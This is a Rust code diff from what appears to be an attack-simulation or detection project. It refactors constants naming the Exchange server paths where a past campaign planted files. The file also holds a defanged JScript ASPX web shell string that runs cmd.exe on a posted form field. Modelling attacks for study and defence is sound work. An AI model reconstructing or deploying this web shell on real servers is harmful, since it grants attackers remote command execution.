@@ -1,34 +1,26 @@
 //! What the last set plants: places, texts that hide, and places that hide.
 
+use crate::attack::Place;
 use crate::attack::odd_page::OddPage;
-use crate::attack::{Below, Place};
 use crate::moment::Moment;
 use crate::server::Encoding;
 use crate::technique::Technique;
 
-const fn product(folder: &'static str, url: &'static str, protocol: &'static str) -> Place {
-    Place { below: Below::Product, folder, url, protocol: Some(protocol) }
-}
-
-const fn site(folder: &'static str, url: &'static str) -> Place {
-    Place { below: Below::Site, folder, url, protocol: None }
-}
-
-pub(super) const SIGN_IN: Place = product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
-pub(super) const ADMIN_AUTH: Place = product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
-pub(super) const CLIENT: Place = site("aspnet_client", "/aspnet_client");
-pub(super) const SYSTEM_WEB: Place = site("aspnet_client\\system_web", "/aspnet_client/system_web");
+pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
+pub(super) const ADMIN_AUTH: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
+pub(super) const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
+pub(super) const SYSTEM_WEB: Place = Place::site("aspnet_client\\system_web", "/aspnet_client/system_web");
 const UPDATE: Place =
-    site("aspnet_client\\system_web\\4_0_30319\\update", "/aspnet_client/system_web/4_0_30319/update");
-const THEMES: Place = product(
+    Place::site("aspnet_client\\system_web\\4_0_30319\\update", "/aspnet_client/system_web/4_0_30319/update");
+const THEMES: Place = Place::product(
     "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2106\\themes\\resources",
     "/owa/auth/15.1.2106/themes/resources",
     "Owa",
 );
-const AUTODISCOVER: Place = product("FrontEnd\\HttpProxy\\autodiscover", "/autodiscover", "Autodiscover");
-const SERVICES: Place = product("FrontEnd\\HttpProxy\\EWS", "/EWS", "Ews");
-const FONTS: Place = site("aspnet_client\\fonts", "/aspnet_client/fonts");
-const ROOT: Place = site("", "");
+const AUTODISCOVER: Place = Place::product("FrontEnd\\HttpProxy\\autodiscover", "/autodiscover", "Autodiscover");
+const SERVICES: Place = Place::product("FrontEnd\\HttpProxy\\EWS", "/EWS", "Ews");
+const FONTS: Place = Place::site("aspnet_client\\fonts", "/aspnet_client/fonts");
+const ROOT: Place = Place::site("", "");
 
 /// The page that the address book's download writes.
 pub(super) const WRITTEN: &str = "<%@ Page Language=\"JSc¦ript\"%><scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){Response.Write(new Active¦XObject(\"WScr¦ipt.Sh¦ell\").ex¦ec(\"cmd.exe /c \"+Req¦uest.Form[\"rl\"]).StdOut.ReadAll());}</scr¦ipt>\r\n";
